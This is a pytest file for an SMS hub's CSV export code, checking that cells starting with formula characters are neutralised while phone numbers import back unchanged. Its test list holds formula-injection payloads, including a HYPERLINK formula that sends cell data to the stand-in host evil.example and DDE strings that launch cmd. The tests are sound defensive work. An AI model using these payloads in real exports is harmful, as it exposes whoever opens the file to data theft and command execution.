"""CSV exports cannot carry spreadsheet formulas (issue #14).

Every export (console /console/messages.csv and /console/campaigns/N.csv, `smshub contacts
export` and `smshub campaigns export`, which call the same functions) writes through
hub/core/csvout.py: a text cell starting with = + - @ TAB or CR is prefixed with ', except a
cell that is exactly an E.164 number (+33612345678: nothing in it can run, and contact
lists must import back unchanged).
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from hub.campaigns import contacts
from hub.campaigns.campaigns import create_campaign, export_campaign
from hub.core.csvout import safe_cell
from hub.sending import submit as sending
from hub.store.db import session_scope
from tests.console import conftest as console_fixtures

users = console_fixtures.users
console = console_fixtures.console

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_neutralised(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+33612345678", "+14155550123", "hello", "", "Zoé = 1"])
def test_phone_numbers_and_plain_text_are_kept(cell):
    assert safe_cell(cell) == cell


def test_numbers_given_as_numbers_are_kept():
    assert safe_cell(-5) == -5


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "@", "-", "\t", "\r")), cell
            assert not cell.startswith("+") or cell[1:].isdigit(), cell


async def test_console_history_csv_is_neutralised(hub, console):
    for text in FORMULAS[:3]:
        sending.submit(
            hub.engine,
            hub.config,
            sending.SubmitRequest(account="acme", recipients=["0612345678"], text=text),
        )
    alice = await console("alice")
    response = await alice.get("/console/messages.csv")
    assert response.status_code == 200
    rows = _rows(response.content)
    _no_formula(rows)
    texts = {row[4] for row in rows[1:]}
    assert texts == {"'" + t for t in FORMULAS[:3]}
    assert {row[2] for row in rows[1:]} == {"+33612345678"}  # the number stays a number


async def test_campaign_csv_is_neutralised(hub, console):
    with session_scope(hub.engine) as s:
        created = create_campaign(
            s,
            hub.config,
            "acme",
            "promo",
            text="=1+1 -20% today",
            numbers=["0612345678"],
            type="alert",
        )
        campaign_id = created.campaign.id
    alice = await console("alice")
    response = await alice.get(f"/console/campaigns/{campaign_id}.csv")
    assert response.status_code == 200
    rows = _rows(response.content)
    _no_formula(rows)
    assert rows[1][0] == "+33612345678"
    with session_scope(hub.engine) as s:
        assert _rows(export_campaign(s, campaign_id)) == rows  # the CLI's export


def test_contacts_export_is_neutralised_and_imports_back(engine: Any, account: str):
    with session_scope(engine) as s:
        contacts.add_numbers(
            s, "acme", "vip", ["0612345678"], region="FR", fields={"name": "@SUM(A1:A9)"}
        )
        data = contacts.export_list(s, "acme", "vip")
    rows = _rows(data)
    _no_formula(rows)
    assert rows == [["number", "name"], ["+33612345678", "'@SUM(A1:A9)"]]
    with session_scope(engine) as s:
        back = contacts.import_contacts(
            s, "acme", "copy", data, "vip.csv", preview=False, region="FR"
        )
    assert back.added == 1
